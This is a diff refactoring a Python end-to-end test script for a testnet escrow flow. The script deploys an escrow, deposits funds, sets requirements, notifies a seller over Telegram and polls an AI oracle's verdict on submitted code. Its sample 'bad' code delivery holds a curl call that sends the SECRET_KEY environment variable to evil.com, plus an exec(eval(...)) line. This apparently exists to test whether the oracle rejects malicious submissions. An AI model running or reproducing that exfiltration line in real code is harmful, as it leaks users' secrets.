@@ -19,24 +19,20 @@ import sys
 import json
 import time
 import requests
+from concurrent.futures import ThreadPoolExecutor
 from web3 import Web3
 from eth_account import Account
 
 # Add parent directory
 sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
 
-# Load environment
-try:
-    from dotenv import load_dotenv
-    load_dotenv()
-    load_dotenv('.env.local')
-except:
-    pass
+from _flow import (
+    FACTORY_ADDRESS, WEB3, escrow_contract, json_loads, wait_receipt,
+    deploy_escrow, deposit, set_requirements
+)
 
-# Configuration
+# Configuration (.env is loaded by _flow)
 API_BASE_URL = os.getenv("API_BASE_URL", "http://localhost:5001")
-ARC_RPC_URL = os.getenv("ARC_TESTNET_RPC_URL", "https://rpc.testnet.arc.network")
-FACTORY_ADDRESS = os.getenv("FACTORY_CONTRACT_ADDRESS", "0x33e9915F122135B88fDEba6e8312f0cD8E678098")
 PRIVATE_KEY = os.getenv("PRIVATE_KEY")
 TELEGRAM_BOT_TOKEN = os.getenv("TELEGRAM_BOT_TOKEN")
 
@@ -44,6 +40,12 @@ TELEGRAM_BOT_TOKEN = os.getenv("TELEGRAM_BOT_TOKEN")
 SELLER_ADDRESS = "0x0f7B6653e2D9142e8bC89611C9CA08E4BCe7c5ea"
 SELLER_TELEGRAM = "@Eyedroppz"
 
+# Checksummed once at import rather than per call
+SELLER_ADDRESS_CS = Web3.to_checksum_address(SELLER_ADDRESS)
+
+# Keep-alive session for the API server
+API_SESSION = requests.Session()
+
 # Sample code deliveries
 GOOD_CODE = '''
 def fibonacci(n):
@@ -73,6 +75,14 @@ subprocess.run(["curl", "http://evil.com/steal?data=" + os.environ.get("SECRET_K
 exec(eval("bad_code"))
 '''
 
+# JSON-encoded `"code": ...` member, serialized once; requests splice in the per-run fields
+GOOD_CODE_JSON_TAIL = json.dumps({"code": GOOD_CODE})[1:-1]
+JSON_HEADERS = {'Content-Type': 'application/json'}
+
+def submission_body(code_tail, **fields):
+    """JSON body for /api/submit-delivery: the per-run fields plus a pre-encoded code member"""
+    return ('{' + json.dumps(fields)[1:-1] + ', ' + code_tail + '}').encode()
+
 def print_header(text):
     print(f"\n{'='*60}")
     print(f"  {text}")
@@ -90,7 +100,7 @@ def main():
         return False
     
     # Setup Web3
-    web3 = Web3(Web3.HTTPProvider(ARC_RPC_URL))
+    web3 = WEB3
     if not web3.is_connected():
         print("❌ Not connected to Arc Testnet")
         return False
@@ -99,55 +109,32 @@ def main():
     buyer_address = account.address
     
     print(f"🔑 Buyer Address: {buyer_address}")
-    print(f"💰 Balance: {web3.from_wei(web3.eth.get_balance(buyer_address), 'ether')} USDC")
+    # Display-only, so the balance lookup overlaps the transactions and is shown in the summary
+    balance_pool = ThreadPoolExecutor(max_workers=1)
+    balance_future = balance_pool.submit(web3.eth.get_balance, buyer_address)
+    balance_pool.shutdown(wait=False)
     print(f"🏭 Factory: {FACTORY_ADDRESS}")
     print(f"📦 Seller: {SELLER_ADDRESS}")
     print(f"📱 Seller Telegram: {SELLER_TELEGRAM}")
     
-    # Load ABIs
-    base_dir = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
-    with open(os.path.join(base_dir, "frontend/src/factory_abi.json"), 'r') as f:
-        factory_abi = json.load(f)
-    with open(os.path.join(base_dir, "frontend/src/escrow_abi.json"), 'r') as f:
-        escrow_abi = json.load(f)
-    
-    factory = web3.eth.contract(address=Web3.to_checksum_address(FACTORY_ADDRESS), abi=factory_abi)
-    
     # =========================================
     # STEP 1: Deploy Escrow
     # =========================================
     print_step(1, "Deploy New Escrow")
     
-    nonce = web3.eth.get_transaction_count(buyer_address)
-    tx = factory.functions.createEscrow().build_transaction({
-        'from': buyer_address,
-        'nonce': nonce,
-        'gas': 2000000,
-        'gasPrice': web3.to_wei(20, 'gwei')
-    })
-    signed = account.sign_transaction(tx)
-    tx_hash = web3.eth.send_raw_transaction(signed.raw_transaction)
+    # Fetched once; each sent transaction bumps it locally
+    nonce = web3.eth.get_transaction_count(buyer_address, 'pending')
+    tx_hash, receipt, escrow_address = deploy_escrow(web3, account, nonce)
+    nonce += 1
     print(f"   TX Hash: {tx_hash.hex()}")
     
-    receipt = web3.eth.wait_for_transaction_receipt(tx_hash, timeout=60)
-    
-    # Get escrow address from event
-    escrow_address = None
-    for log in receipt.logs:
-        try:
-            parsed = factory.events.EscrowCreated().process_log(log)
-            escrow_address = parsed['args']['escrowAddress']
-            break
-        except:
-            continue
-    
     if not escrow_address:
         print("❌ Could not find EscrowCreated event")
         return False
     
     print(f"   ✅ Escrow deployed: {escrow_address}")
     
-    escrow = web3.eth.contract(address=escrow_address, abi=escrow_abi)
+    escrow = escrow_contract(escrow_address)
     
     # =========================================
     # STEP 2: Deposit Funds
@@ -156,25 +143,9 @@ def main():
     
     deposit_amount = web3.to_wei(0.001, 'ether')  # 0.001 USDC
     
-    nonce = web3.eth.get_transaction_count(buyer_address)
-    tx = escrow.functions.deposit(SELLER_ADDRESS).build_transaction({
-        'from': buyer_address,
-        'value': deposit_amount,
-        'nonce': nonce,
-        'gas': 200000,
-        'gasPrice': web3.to_wei(20, 'gwei')
-    })
-    signed = account.sign_transaction(tx)
-    tx_hash = web3.eth.send_raw_transaction(signed.raw_transaction)
-    print(f"   TX Hash: {tx_hash.hex()}")
-    
-    receipt = web3.eth.wait_for_transaction_receipt(tx_hash, timeout=60)
-    
-    if receipt.status == 1:
-        print(f"   ✅ Deposited {web3.from_wei(deposit_amount, 'ether')} USDC")
-    else:
-        print("   ❌ Deposit failed")
-        return False
+    deposit_hash = deposit(web3, account, escrow, SELLER_ADDRESS_CS, deposit_amount, nonce)
+    nonce += 1
+    print(f"   TX Hash: {deposit_hash.hex()}")
     
     # =========================================
     # STEP 3: Set Requirements
@@ -183,24 +154,28 @@ def main():
     
     requirements = "Create a Python function that calculates Fibonacci numbers. Must be efficient and well-documented."
     
-    nonce = web3.eth.get_transaction_count(buyer_address)
-    tx = escrow.functions.setContractRequirements(
-        SELLER_ADDRESS,
-        requirements,
-        SELLER_TELEGRAM
-    ).build_transaction({
-        'from': buyer_address,
-        'nonce': nonce,
-        'gas': 300000,
-        'gasPrice': web3.to_wei(20, 'gwei')
-    })
-    signed = account.sign_transaction(tx)
-    tx_hash = web3.eth.send_raw_transaction(signed.raw_transaction)
-    print(f"   TX Hash: {tx_hash.hex()}")
+    # Sent right behind the deposit: consecutive nonces from one sender execute in
+    # order, so both can be in flight at once (gas stays fixed here: estimating it
+    # would run against state without the not-yet-mined deposit)
+    requirements_hash = set_requirements(
+        web3, account, escrow, SELLER_ADDRESS_CS, requirements, SELLER_TELEGRAM, nonce, estimate=False
+    )
+    nonce += 1
+    print(f"   TX Hash: {requirements_hash.hex()}")
+    
+    print("   ⏳ Waiting for deposit and requirements receipts...")
+    with ThreadPoolExecutor(max_workers=2) as pool:
+        deposit_receipt, requirements_receipt = pool.map(
+            lambda tx_hash: wait_receipt(web3, tx_hash), [deposit_hash, requirements_hash]
+        )
     
-    receipt = web3.eth.wait_for_transaction_receipt(tx_hash, timeout=60)
+    if deposit_receipt.status == 1:
+        print(f"   ✅ Deposited {web3.from_wei(deposit_amount, 'ether')} USDC")
+    else:
+        print("   ❌ Deposit failed")
+        return False
     
-    if receipt.status == 1:
+    if requirements_receipt.status == 1:
         print(f"   ✅ Requirements set: '{requirements[:50]}...'")
     else:
         print("   ❌ Set requirements failed")
@@ -211,9 +186,20 @@ def main():
     # =========================================
     print_step(4, "Generate OTP & Notify Seller via Telegram")
     
+    # Keep-alive session for api.telegram.org; the seller chat lookup doesn't
+    # depend on the OTP, so it runs while the backend generates one
+    telegram_session = requests.Session()
+    telegram_pool = ThreadPoolExecutor(max_workers=1)
+    updates_future = None
+    if TELEGRAM_BOT_TOKEN:
+        updates_future = telegram_pool.submit(
+            telegram_session.get, f"https://api.telegram.org/bot{TELEGRAM_BOT_TOKEN}/getUpdates", timeout=10
+        )
+    telegram_pool.shutdown(wait=False)
+    
     # Call backend API to generate OTP
     try:
-        response = requests.post(
+        response = API_SESSION.post(
             f"{API_BASE_URL}/api/generate-otp",
             json={
                 "seller_address": SELLER_ADDRESS,
@@ -225,7 +211,7 @@ def main():
         )
         
         if response.status_code == 200:
-            data = response.json()
+            data = json_loads(response.content)
             otp = data.get('otp')
             submission_link = data.get('submission_link')
             print(f"   ✅ OTP Generated: {otp}")
@@ -245,21 +231,22 @@ def main():
                 
                 # Get chat ID for seller
                 try:
-                    updates = requests.get(
-                        f"https://api.telegram.org/bot{TELEGRAM_BOT_TOKEN}/getUpdates"
-                    ).json()
+                    updates = json_loads(updates_future.result().content)
                     
-                    chat_id = None
+                    # First message from each username wins, as in a front-to-back scan
+                    chat_ids = {}
                     for update in updates.get('result', []):
                         msg = update.get('message', {})
-                        if msg.get('from', {}).get('username', '').lower() == SELLER_TELEGRAM.replace('@', '').lower():
-                            chat_id = msg['chat']['id']
-                            break
+                        username = msg.get('from', {}).get('username')
+                        if username:
+                            chat_ids.setdefault(username.lower(), msg['chat']['id'])
+                    chat_id = chat_ids.get(SELLER_TELEGRAM.lstrip('@').lower())
                     
                     if chat_id:
-                        requests.post(
+                        telegram_session.post(
                             f"https://api.telegram.org/bot{TELEGRAM_BOT_TOKEN}/sendMessage",
-                            json={"chat_id": chat_id, "text": telegram_msg}
+                            json={"chat_id": chat_id, "text": telegram_msg},
+                            timeout=10
                         )
                         print(f"   📱 Telegram notification sent to {SELLER_TELEGRAM}")
                     else:
@@ -285,14 +272,15 @@ def main():
     print(f"   Code preview:\n{GOOD_CODE[:200]}...")
     
     try:
-        response = requests.post(
+        response = API_SESSION.post(
             f"{API_BASE_URL}/api/submit-delivery",
-            json={
-                "seller_address": SELLER_ADDRESS,
-                "escrow_address": escrow_address,
-                "otp": otp,
-                "code": GOOD_CODE
-            },
+            data=submission_body(
+                GOOD_CODE_JSON_TAIL,
+                seller_address=SELLER_ADDRESS,
+                escrow_address=escrow_address,
+                otp=otp
+            ),
+            headers=JSON_HEADERS,
             timeout=30
         )
         
@@ -309,16 +297,21 @@ def main():
     print_step(6, "Oracle AI Verification (Gemini)")
     
     print("   🤖 Waiting for Oracle to verify delivery...")
-    time.sleep(3)  # Give the backend time to process
     
     try:
-        response = requests.get(
-            f"{API_BASE_URL}/api/escrow-status/{escrow_address}",
-            timeout=10
-        )
+        # Short-poll until the backend is done with the delivery (~7.5s at most)
+        for _ in range(15):
+            response = API_SESSION.get(
+                f"{API_BASE_URL}/api/escrow-status/{escrow_address}",
+                timeout=3
+            )
+            if response.status_code == 200:
+                status = json_loads(response.content)
+                if 'verdict' in status or not status.get('status', '').startswith('pending'):
+                    break
+            time.sleep(0.5)
         
         if response.status_code == 200:
-            status = response.json()
             print(f"   📊 Escrow Status: {status.get('status', 'unknown')}")
             if 'verdict' in status:
                 print(f"   🏆 Verdict: {status['verdict']}")
@@ -336,11 +329,17 @@ def main():
     # =========================================
     print_header("📊 Flow Complete - Summary")
     
+    try:
+        starting_balance = f"{web3.from_wei(balance_future.result(timeout=10), 'ether')} USDC"
+    except Exception:
+        starting_balance = "unavailable"
+    
     print(f"""
     🏭 Factory Address:    {FACTORY_ADDRESS}
     📦 Escrow Address:     {escrow_address}
     👤 Buyer:              {buyer_address}
     👤 Seller:             {SELLER_ADDRESS}
+    💰 Starting Balance:   {starting_balance}
     💰 Deposit:            {web3.from_wei(deposit_amount, 'ether')} USDC
     📋 Requirements:       {requirements[:40]}...
     📱 Seller Telegram:    {SELLER_TELEGRAM}